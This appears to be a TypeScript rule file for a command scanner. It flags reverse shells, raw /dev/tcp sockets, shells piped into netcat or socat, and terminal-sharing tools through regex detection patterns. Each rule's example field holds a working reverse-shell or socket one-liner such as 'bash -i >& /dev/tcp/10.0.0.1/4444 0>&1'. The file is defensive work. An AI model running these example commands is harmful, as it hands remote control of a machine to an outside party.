// Rules about giving control of a shell to others.

import { interpreterName, SHELLS } from '../../carriers/wrappers.ts'
import { TAINT } from '../../model.ts'
import { inputCode } from '../../writes/positions.ts'
import { matching, only, type Rule, tools, verb } from '../rule.ts'

/** Code that connects to the network. Together with RUNS_COMMANDS it gives control of a shell to another machine. */
const CONNECTS =
  /socket|fsockopen|TCPSocket|\/inet\/tcp|net\.Dial|TcpStream|TcpClient|IO::Socket|Net::|net["')]*\)?\.(?:connect|createServer|Socket)/i
const RUNS_COMMANDS =
  /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&|fdopen|popen|proc_open|child_process|ProcessBuilder|run\(\s*pipeline|os\.execute/

const SOCKET = /^\/dev\/(?:tcp|udp)\//

export const SHELL_RULES: readonly Rule[] = [
  {
    id: 'reverse-shell',
    level: 'critical',
    why: 'Gives another machine control of a shell on this one.',
    tools: ['*'],
    when: (c) => {
      if (SHELLS.has(c.name))
        return c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target)
      if (/^(?:nc|ncat|netcat)$/.test(c.name))
        return matching(c.args, /^(?:-[a-zA-Z]*e|-c|--exec|--sh-exec|--lua-exec)$|^--(?:sh-)?exec=/).filter(
          () => c.args.some((arg) => /sh\b|bash|cmd|exec|perl|python/.test(arg.text)),
        )
      if (c.name === 'socat')
        return matching(c.args, /^(?:EXEC|SYSTEM):/i).filter(() =>
          c.args.some((arg) => /^(?:TCP|UDP|OPENSSL|SCTP)/i.test(arg.text)),
        )
      if (c.name === 'socket') return only(matching(c.args, /^-[a-z]*p/).length, matching(c.args, /sh\b/))
      const code = isInterpreter(c.name)
        ? [...c.args, ...inputCode(c)]
        : COMPILES.has(c.name) && c.args.length > 0 && c.scope.written?.size
          ? inputCode(c)
          : []
      return code.filter((code) => CONNECTS.test(code.text) && RUNS_COMMANDS.test(code.text))
    },
    example: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  },
  {
    id: 'socket-open',
    level: 'high',
    why: 'Connects this shell to the network, as a reverse shell does.',
    tools: tools('exec'),
    when: (c) =>
      c.redirections.filter((r) => r.operator === '<>' && SOCKET.test(r.target.text)).map((r) => r.target),
    example: 'exec 5<>/dev/tcp/10.0.0.1/80',
  },
  {
    id: 'socket-redirect',
    level: 'moderate',
    why: 'Opens a network connection through a redirection.',
    tools: ['*'],
    when: (c) =>
      only(
        !SHELLS.has(c.name),
        c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target),
      ),
    example: 'echo x > /dev/tcp/h/22',
  },
  {
    id: 'shell-piped',
    level: 'critical',
    why: 'Lets the other end of the connection type into a shell on this machine.',
    tools: [...SHELLS, ...tools('nc ncat netcat telnet openssl socat')],
    when: (c) => {
      const has = (kind: number) => (c.input.taint & kind) !== 0
      if (!SHELLS.has(c.name))
        return has(TAINT.shell) && (c.name !== 'openssl' || c.args[0]?.text === 's_client')
      const tied = c.redirections.filter((r) => c.scope.sockets?.has(r.target.text))
      return tied.length > 0
        ? tied.map((r) => r.target)
        : has(TAINT.dialogue) && c.args.every((arg) => /^-[isl]*$/.test(arg.text))
    },
    example: 'sh -i | nc host 1',
  },
  {
    id: 'share-terminal',
    level: 'moderate',
    why: 'Lets others see or use this terminal, or reach this machine through another.',
    tools: tools('ttyd gotty tmate sshx wetty ssh ngrok cloudflared localtunnel bore code'),
    when: (c, o) => {
      if (c.name === 'ssh')
        return only(
          c.args.some((arg) => /^-[A-Za-z]*R/.test(arg.text)),
          true,
        )
      if (c.name === 'code') return only(verb(o) === 'tunnel', true)
      if (c.name === 'cloudflared')
        return only(verb(o) === 'tunnel' && (verb(o, 1) === 'run' || o.flag('url')), true)
      return !o.flag('help', 'version', 'h', 'v')
    },
    example: 'ttyd bash',
  },
]

/** Interpreters missing in the table of wrappers, because nobody pipes code into them. */
const MORE =
  /^(?:[gmn]?awk|julia|jrunscript|jjs|groovy|scala|tclsh\d*|expect|luajit|R|octave|guile|elixir|erl|swipl|ghci)$/

/** Tools that run the source of a file, which the line may have written before. */
const COMPILES: ReadonlySet<string> = new Set(tools('go jshell java ghc deno bun'))

function isInterpreter(name: string): boolean {
  return interpreterName(name) !== undefined || MORE.test(name)
}
